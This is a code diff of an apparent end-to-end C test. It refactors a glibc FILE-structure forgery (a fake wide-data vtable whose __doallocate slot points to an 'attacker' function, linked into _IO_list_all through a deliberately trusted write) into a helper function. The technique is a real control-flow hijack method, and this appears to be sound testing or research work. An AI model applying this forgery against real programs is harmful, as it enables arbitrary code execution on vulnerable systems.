@@ -25,12 +25,8 @@
 #include <wchar.h>
 
 #include "e2e.h"
+#include "forged_file.h"
 
-/* glibc facts (2.36): the wide jump table, struct _IO_wide_data's
- * _wide_vtable, struct _IO_jump_t's __doallocate. */
-extern const char _IO_wfile_jumps[];
-extern FILE *_IO_list_all;
-enum { kWideVtableWord = 0xe0 / 8, kDoallocateSlot = 13 };
 
 struct patch { /* one field update of a client's request */
   void *where; /* attacker-controlled: the bug trusts it */
@@ -93,16 +89,7 @@ static int wide_jump_table(void) {
 static int forged_io_list(void) {
   fflush(stdout);
   FILE *head_before = _IO_list_all;
-  FILE *f = (FILE *)g_received;
-  uintptr_t *wide = g_received + 64, *table = g_received + 128;
-  f->_flags = (int)0xfbad0000u | 0x8000; /* _IO_MAGIC | _IO_USER_LOCK: no lock taken */
-  f->_mode = 1;                          /* wide */
-  f->_chain = head_before;
-  f->_wide_data = (struct _IO_wide_data *)wide;
-  *(const void **)(f + 1) = _IO_wfile_jumps;
-  wide[4] = 1; /* _IO_write_ptr > _IO_write_base: output pending */
-  wide[kWideVtableWord] = (uintptr_t)table;
-  table[kDoallocateSlot] = (uintptr_t)&attacker;
+  FILE *f = forge_wide_file(g_received, 64, 128, head_before, (const void *)&attacker);
   struct request rq = {1, {{&_IO_list_all, (uintptr_t)f}}};
   int r = apply_updates(&rq);
   int kind = take_fault();
